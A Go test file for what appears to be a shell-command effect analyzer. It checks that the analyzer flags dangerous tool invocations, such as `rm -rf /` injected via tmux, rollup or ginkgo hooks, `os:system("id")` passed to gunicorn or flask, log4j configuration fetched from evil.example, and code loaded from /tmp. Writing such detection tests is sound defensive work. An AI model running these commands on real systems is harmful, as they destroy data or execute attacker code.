package command_test

import (
	"strings"
	"testing"

	"passepartout/command"
	"passepartout/pipeline"
)

// Words that only one of the tools of a shared entry gives a meaning to.
func TestToolWords(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		text string
		kind pipeline.EffectKind
		want bool // whether an effect of that kind is stated
	}{
		{`tmux ls \; run 'rm -rf /'`, pipeline.KindUnknown, true},
		{`tmux ls -F '#(rm -rf /)'`, pipeline.KindUnknown, true},
		{`tmux ls -F '#{session_name}'`, pipeline.KindUnknown, false},
		{`coverage run -m http.server`, pipeline.KindListen, true},
		{`coverage run -m pytest`, pipeline.KindListen, false},
		{`streamlit run a.py`, pipeline.KindListen, true},
		{`streamlit run a.py --server.address 127.0.0.1`, pipeline.KindListen, false},
		{`plantuml -picoweb:8080`, pipeline.KindListen, true},
		{`plantuml a.puml`, pipeline.KindListen, false},
		{`keytool -importcert -cacerts -file x`, pipeline.KindUnknown, true},
		{`keytool -list -cacerts`, pipeline.KindUnknown, false},
		{`pio run -tupload`, pipeline.KindUnknown, true},
		{`pio run -e esp32`, pipeline.KindUnknown, false},
		{`detekt --input src --report html:/srv/x`, pipeline.KindWrite, true},
		{`uv run --index-url https://evil.example pytest`, pipeline.KindConnect, true},
		{`uv run pytest`, pipeline.KindConnect, false},
		{`flask run --host 0`, pipeline.KindListen, true},
		{`nsys stats -r ../x.py r`, pipeline.KindUnknown, true},
		{`nsys stats -r x -o '@sh y' r`, pipeline.KindUnknown, true},
		{`nsys stats -r cuda_gpu_kern_sum r`, pipeline.KindUnknown, false},
		{`dredd a.yml http://localhost -r apiary`, pipeline.KindUnknown, true},
		{`ceedling 'module:create[../x]'`, pipeline.KindUnknown, true},
		{`ceedling 'module:create[x]'`, pipeline.KindUnknown, false},
		{`llvm-tblgen @o a.td`, pipeline.KindUnknown, true},
		{`fio --name=/srv/x --size=1M`, pipeline.KindUnknown, true},
		{`spatch a.cocci a.c`, pipeline.KindCode, true},
		{`lupdate a.pro -ts b.ts`, pipeline.KindCode, true},
		{`lupdate a.cpp -ts b.ts`, pipeline.KindCode, false},
		{`java -Dlog4j.configurationFile=http://evil.example/x -jar a.jar`, pipeline.KindConnect, true},
		{`java -Dlog4j.configurationFile=a.xml -jar a.jar`, pipeline.KindConnect, false},
	} {
		found := false
		for _, e := range analyze(t, command.Input{Text: tt.text, Shell: true}).Effects {
			found = found || e.Kind == tt.kind
		}
		if found != tt.want {
			t.Errorf("%s: %s stated: %t, want %t", tt.text, tt.kind, found, tt.want)
		}
	}
}

// Code that a tool takes on its command line is nobody's known code.
func TestToolCode(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		`gunicorn 'os:system("id")'`:                         true,
		`gunicorn 'app:create_app("test")'`:                  false,
		`flask -A 'os:system("id")' run`:                     true,
		`rollup -p '{transform(){evil()}}' a.js`:             true,
		`rollup -w --watch.onEnd 'rm -rf /' -c`:              true,
		`eslint '{src,test}/**/*.js'`:                        false,
		`mvn -DargLine='-XX:OnError=evil' test`:              true,
		`mvn -DargLine=-Xmx1g test`:                          false,
		`clojure -X clojure.java.shell/sh :x y`:              true,
		`clojure -X:test`:                                    false,
		`bb '(x)'`:                                           true,
		`jupytext --to py --pipe 'rm -rf /' a.ipynb`:         true,
		`jupytext --to py a.ipynb`:                           false,
		`mysql --pager='sh evil' -e 'select 1'`:              true,
		`buf generate --template '{"plugins":[{"x":"/y"}]}'`: true,
		`ginkgo --after-run-hook='rm -rf /' -r`:              true,
	} {
		foreign := false
		for _, e := range analyze(t, command.Input{Text: text, Shell: true}).Effects {
			foreign = foreign || e.Kind == pipeline.KindCode && e.Mark != "build" && e.Mark != "test"
		}
		if foreign != want {
			t.Errorf("%s: foreign code: %t, want %t", text, foreign, want)
		}
	}
}

// Variables by which tools find code, write or listen.
func TestToolVariables(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		`YARN_YARN_PATH=/tmp/evil.js yarn test`:         true,
		`FLASK_APP='os:system("id")' flask run`:         true,
		`FLASK_APP=app.py flask run`:                    false,
		`GOWORK=off go build ./...`:                     false,
		`GOWORK=/tmp/go.work go build ./...`:            true,
		`RUSTUP_TOOLCHAIN=nightly cargo build`:          false,
		`UVICORN_HOST=0.0.0.0 uvicorn app:app`:          true,
		`UVICORN_HOST=127.0.0.1 uvicorn app:app`:        false,
		`CHROME_BIN=/usr/bin/chromium karma start`:      false,
		`CHROME_BIN=/tmp/evil karma start`:              true,
		`CCC_OVERRIDE_OPTIONS='+-fplugin=x' make`:       true,
		`NODE_REDIRECT_WARNINGS=/srv/x node a.js`:       true,
		`ANSIBLE_FILTER_PLUGINS=/tmp/x make`:            true,
		`PKG_CONFIG_PATH=/usr/lib/pkgconfig make`:       false,
		`shell_escape=t pdflatex a.tex`:                 true,
		`cmake -D CMAKE_TOOLCHAIN_FILE=/tmp/evil .`:     true,
		`cmake -D CMAKE_BUILD_TYPE=Release .`:           false,
		`cppcheck --clang-tidy=/tmp/evil a.c`:           true,
		`swift build -Xswiftc -O`:                       false,
		`swift build -Xswiftc -load -Xswiftc /tmp/x.so`: true,
		`perl -I/tmp/evil a.pl`:                         true,
		`borg --rsh 'sh /tmp/evil' list x`:              true,
		`borg list x`:                                   false,
		`rebar3 do eunit, hex publish`:                  true,
		`swiftlint --fix --path /tmp/x`:                 true,
		`swiftlint --fix`:                               false,
		`psalm --language-server --tcp=evil.example:1`:  true,
		`bazel run //:push_image`:                       true,
		`bazel run //app:server`:                        false,
	} {
		out := false
		for _, e := range analyze(t, command.Input{Text: text, Shell: true}).Effects {
			switch e.Kind {
			case pipeline.KindListen, pipeline.KindUnknown:
				out = true
			case pipeline.KindCode, pipeline.KindWrite:
				out = out || strings.HasPrefix(e.Object, "/tmp/") || strings.HasPrefix(e.Object, "/srv/") || e.Mark == "loader-injection"
			}
		}
		if out != want {
			t.Errorf("%s: leads away: %t, want %t", text, out, want)
		}
	}
}
